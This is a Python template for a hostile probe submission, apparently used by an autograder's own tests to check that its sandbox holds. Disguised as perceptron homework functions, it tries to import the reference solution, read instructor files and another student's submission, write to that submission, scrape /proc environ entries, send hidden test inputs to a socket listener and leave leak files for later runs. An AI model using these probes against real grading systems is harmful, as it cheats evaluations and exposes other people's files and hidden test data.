"""Tries every way out of the sandbox and reports what it saw (template: the test fills in @@NAMES@@).

Each function collects what it managed to do and raises RuntimeError("PROBE:" + json), so
the report of its first public test carries the findings (and the file scores 0).
`tests/test_grader_hostile.py` fills in the paths of the instructor's files, the other
student's submission and the port of a listener it started, grades two copies of this
file in one run (the second looks for what the first left behind), and checks that
every attempt failed.
"""
import glob
import json
import os
import sys

# The grader's import rules may refuse `import socket` in a cell; a library may still import it.
# The probes must test the sandbox, not those rules, so they take the module wherever it is.
try:
    import socket
except ImportError:
    import logging.handlers  # noqa: F401  (imports socket itself)
    socket = sys.modules["socket"]

PATHS = @@PATHS@@
PORT = @@PORT@@
HOSTS = @@HOSTS@@
LEAKS = ["/tmp/linclf_leak.txt", "/dev/shm/linclf_leak.txt", os.path.expanduser("~/linclf_leak.txt"),
         "linclf_leak.txt", "/sandbox/linclf_leak.txt"]


def _try(fn):
    try:
        return "OK " + repr(fn())[:150]
    except BaseException as exc:
        return "FAILED " + type(exc).__name__[:12]


def _report(found):
    raise RuntimeError("PROBE:" + json.dumps(found))


def perceptron_update(w, b, x, y, eta=1.0):
    """Import linclf's own perceptron (and scikit-learn) by every route."""
    found = {}
    # the worker replaces linclf by a stub in sys.modules; drop it, so only the sandbox's masks stand
    for name in [m for m in sys.modules if m.split(".")[0] in ("linclf", "linclf_grader", "sklearn")]:
        del sys.modules[name]

    def run(code):
        ns = {}
        exec(code, ns)
        return ns.get("P")

    found["exec_linclf"] = _try(lambda: run("from linclf.perceptron import Perceptron as P"))
    found["dunder_import"] = _try(lambda: __import__("linclf.perceptron", fromlist=["x"]).Perceptron)
    found["importlib"] = _try(
        lambda: __import__("importlib").import_module("linclf.perceptron").Perceptron)
    found["sklearn"] = _try(lambda: run("from sklearn.linear_model import Perceptron as P"))
    found["grader"] = _try(lambda: run("from linclf_grader.sets import perceptron as P"))
    # look for a copy of the package on disk (every folder on the import path) and load it by path
    copies = []
    for folder in sys.path:
        copies += glob.glob(os.path.join(folder or ".", "*", "linclf", "perceptron.py"))
        copies += glob.glob(os.path.join(folder or ".", "linclf", "perceptron.py"))
    found["copies_on_disk"] = copies[:5]
    found["load_by_path"] = [_try(lambda p=p: len(open(p).read())) for p in copies[:3]]
    _report(found)


def perceptron_train(X, y, eta=1.0, max_epochs=100):
    """Read the instructor's files, the other student's file and the grader's /proc entries."""
    found = {key: _try(lambda p=p: open(p).read()[:40]) for key, p in PATHS.items()}
    found["write_other"] = _try(lambda: open(PATHS["other_student"], "a").write("pwned"))
    # (the report must stay short: list only what succeeded)
    found["listed"] = [d for d in {os.path.dirname(p) for p in PATHS.values()}
                       if _try(lambda d=d: os.listdir(d)).startswith("OK")]
    procs = {}
    for pid in sorted(os.listdir("/proc")):
        if pid.isdigit():
            for what in ("environ", "cmdline"):
                got = _try(lambda pid=pid, what=what: open(
                    f"/proc/{pid}/{what}", "rb").read().replace(b"\0", b" ").decode())
                if got.startswith("OK"):
                    procs[f"{pid}/{what}"] = got[-60:]
    found["ppid"] = os.getppid()
    found["env_mark"] = [k for k, v in os.environ.items() if "MARK" in k or "mark" in v]
    found["proc"] = procs  # last: the longest
    _report(found)


def batch_perceptron_step(w, b, X, y, eta=1.0):
    """Send the call's inputs to a listener on the grading machine."""
    found = {}
    for host in HOSTS:
        def send(host=host):
            with socket.create_connection((host, PORT), timeout=2) as s:
                s.sendall(repr((w, b, X, y)).encode())
            return "sent"
        found[host] = _try(send)
    found["dns"] = _try(lambda: socket.getaddrinfo("pypi.org", 443))
    _report(found)


def novikoff_bound(X, y, w, b):
    """Leave this call's (possibly hidden) inputs for a later submission, and read earlier ones."""
    found = {"read": {p: _try(lambda p=p: open(p).read()[:200]) for p in LEAKS}}
    text = repr(X.tolist()) + repr(w.tolist())
    found["wrote"] = {p: _try(lambda p=p: open(p, "a").write(text)) for p in LEAKS}
    _report(found)
